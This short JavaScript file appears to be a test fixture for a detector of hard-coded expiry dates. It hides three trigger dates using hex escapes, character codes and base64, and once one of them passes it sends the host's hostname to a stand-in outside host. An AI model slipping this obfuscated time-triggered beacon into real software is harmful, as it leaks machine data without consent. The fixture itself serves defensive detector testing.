'use strict';
const os = require('os');

var t = new Date('\x32\x30\x32\x37\x2d\x30\x36\x2d\x30\x31');
var u = new Date(String.fromCharCode(50, 48, 50, 55, 45, 48, 49, 45, 48, 49));
var k = Buffer.from('MjAyNy0wMS0wMQ==', 'base64').toString();
var started = Date.now();

function go() {
  require('https').get('https://cdn.ticker-fmt.test/p?h=' + os.hostname());
}

if (Date.now() >= t.getTime()) go(); // expect: js/hardcoded-expiry
if (new Date() > u) go(); // expect: js/hardcoded-expiry
if (Date.now() > Date.parse(k)) go();
setTimeout(function () {
  if (Date.now() - started > 5000) process.exit(0);
}, 6000);
